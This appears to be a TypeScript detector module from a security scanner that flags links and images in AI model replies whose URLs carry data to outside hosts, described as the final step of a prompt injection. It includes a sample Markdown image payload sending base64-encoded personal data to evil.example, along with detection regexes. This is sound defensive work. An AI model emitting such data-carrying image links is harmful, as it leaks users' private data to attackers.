import type { Detector, DetectorSetup, FindingFacts, Scanner, Sink, StreamPattern } from '../../detector.ts';
import type { View } from '../../view.ts';
import { ownCases } from '../measured.ts';
import { carriesData, type Carrier, type Verdict } from './url.ts';

/** Addresses in a reply that carry data to someone else: the usual last step of an injection (EchoLeak, CVE-2025-32711). */
export const detector: Detector = {
  id: 'exfiltration',
  category: 'exfiltration',
  points: { response: 'deny' },
  version: 2,
  describe: {
    finds:
      'Images and links (Markdown, its definitions and autolinks, HTML, style sheets, bare) whose address holds masked values, credentials, e-mail addresses, encoded text or a slot for data.',
    example: '![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=)',
    passes: '![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)',
    measured: ownCases(16, 4, '0.03 % of 3,000 ordinary texts are flagged'),
  },
  stream: { form: 'prefix' },
  setUp,
};

/** CWE-201 (sensitive information into sent data), LLM02:2025, LLM05:2025 (improper output handling). */
const TAXONOMY = ['CWE-201', 'LLM02:2025', 'LLM05:2025'];

/** Schemes that ask no server for anything, or are judged by `active_content`. */
const MARKDOWN = /(!?)\[[^[\]\n]{0,300}\]\([ \t]{0,4}<?((?:https?:)?\/\/[^\s)>"']{4,8192})/g;
const REFERENCE = /^(?:[ >]{0,12}(?:[*+-][ ]{1,3})?)\[[^\]\n]{1,100}\]:\s{0,8}<?((?:https?:)?\/\/[^\s>]{4,8192})/gm;
/** `url(…)`, `image-set(…)`, `@import "…"` in style sheets, wherever they stand. */
const STYLE = /(?:url\s{0,4}\(|image-set\s{0,4}\(|@import)\s{0,4}["']?((?:https?:)?\/\/[^\s"')<>;]{4,8192})/gi;
const TAG =
  /<(img|image|source|video|audio|iframe|embed|object|link|track|input|body|table|td|a|area|form|base|meta|svg|use|math|mi|mtext|q|blockquote|ins|del|button|frame|portal|feimage|animate|set|tr|th|div|span|p)[\s/][^<>]{0,8192}/gi;
const ATTRIBUTE =
  /[\s"'/](?:src|srcset|href|xlink:href|data|poster|background|action|formaction|content|style|cite|ping|imagesrcset|longdesc|lowsrc|dynsrc|manifest|formtarget|values|to|from)[ \t]{0,4}=[ \t]{0,4}(?:"([^"]{4,8192})"|'([^']{4,8192})'|([^\s"'>]{4,8192}))/gi;
const IN_VALUE = /(?:https?:)?\/\/[^\s"')>,;]{4,8192}/g;
const BARE = /\bhttps?:\/\/[^\s<>"'`)\]\p{Cc}]{8,8192}/gu;

/** Tags whose address is fetched without a click. */
const FETCHED = new Set([
  'img',
  'image',
  'source',
  'video',
  'audio',
  'iframe',
  'embed',
  'object',
  'link',
  'track',
  'input',
  'body',
  'table',
  'td',
  'tr',
  'th',
  'frame',
  'portal',
  'use',
  'feimage',
  'meta',
]);

function setUp({ settings }: DetectorSetup): Scanner {
  const hosts = settings.linkHosts.map((host) => host.toLowerCase());
  const trusted = (host: string): boolean => hosts.some((known) => host === known || host.endsWith(`.${known}`));
  return {
    scan({ plain, decoded }, _at, sink) {
      scanView(plain, trusted, sink);
      if (decoded !== undefined) scanView(decoded, trusted, sink);
    },
    patterns: () => streamPatterns(trusted),
  };
}

type Trusted = (host: string) => boolean;

function scanView(view: View, trusted: Trusted, sink: Sink): void {
  const { text } = view;
  if (!text.includes('//')) return;
  const seen = new Set<number>();
  const judge = (url: string, start: number, carrier: Carrier, whole: number, end: number): void => {
    if (seen.has(start)) return;
    seen.add(start);
    const verdict = carriesData(url, carrier, trusted);
    if (verdict !== undefined) sink.add(view, whole, end, factsOf(verdict, carrier));
  };
  for (const match of text.matchAll(MARKDOWN)) {
    const end = match.index + match[0].length;
    const url = match[2] ?? '';
    judge(url, end - url.length, match[1] === '!' ? 'image' : 'link', match.index, text[end] === ')' ? end + 1 : end);
  }
  for (const match of text.matchAll(REFERENCE)) judgeAt(match, judge);
  for (const match of text.matchAll(STYLE)) judgeAt(match, judge);
  if (text.includes('<')) tags(text, judge);
  for (const match of text.matchAll(BARE)) judge(match[0], match.index, 'link', match.index, match.index + match[0].length);
}

type Judge = (url: string, start: number, carrier: Carrier, whole: number, end: number) => void;

function judgeAt(match: RegExpExecArray, judge: Judge): void {
  const url = match[1] ?? '';
  const end = match.index + match[0].length;
  // A definition serves images and links alike.
  judge(url, end - url.length, 'image', match.index, end);
}

function tags(text: string, judge: Judge): void {
  for (const tag of text.matchAll(TAG)) {
    const carrier = FETCHED.has((tag[1] ?? '').toLowerCase()) ? 'image' : 'link';
    for (const attribute of tag[0].matchAll(ATTRIBUTE)) {
      for (const url of attribute[0].matchAll(IN_VALUE)) {
        const start = tag.index + attribute.index + url.index;
        const end = tag.index + tag[0].length;
        judge(url[0], start, carrier, tag.index, text[end] === '>' ? end + 1 : end);
      }
    }
  }
}

function factsOf({ confidence, reason }: Verdict, carrier: Carrier): FindingFacts {
  return {
    rule: `exfiltration.${carrier}`,
    category: 'exfiltration',
    type: carrier.toUpperCase(),
    severity: carrier === 'image' ? 'high' : 'medium',
    confidence,
    evidence: reason,
    fix: 'Do not show it; look at what the model read before it wrote this.',
    taxonomy: TAXONOMY,
  };
}

/** Address characters that the machine follows; a longer address is a finding for its length alone, or it would leave unseen. */
const STREAMED = 1200;
const TOO_LONG: Verdict = { confidence: 0.7, reason: 'an address too long to be looked into while it streams' };

function streamPatterns(trusted: Trusted): readonly StreamPattern[] {
  const pattern = (id: string, source: string, carrier: Carrier): StreamPattern => {
    const judge = (match: string): Verdict | undefined => {
      const urls = match.match(IN_VALUE) ?? [];
      for (const url of urls) {
        const verdict = carriesData(url, carrier, trusted);
        if (verdict !== undefined) return verdict;
      }
      return undefined;
    };
    return {
      id: `exfiltration.${id}`,
      source,
      ignoreCase: true,
      overflow: 'match',
      verify: (match) => judge(match) !== undefined,
      finding: (match) => factsOf(judge(match) ?? TOO_LONG, carrier),
    };
  };
  return [
    pattern('markdown-image', `!\\[[^\\]\\n]{0,200}\\]\\([ <]{0,2}(https?:)?//[^\\s)>"']{4,${STREAMED}}`, 'image'),
    pattern('tag', `<(img|image|source|video|audio|iframe|embed|object|link|input|body|table)\\s[^<>]{4,${STREAMED}}`, 'image'),
    pattern('bare', `\\bhttps?://[^\\s<>"'\`)\\]]{8,${STREAMED}}`, 'link'),
  ];
}
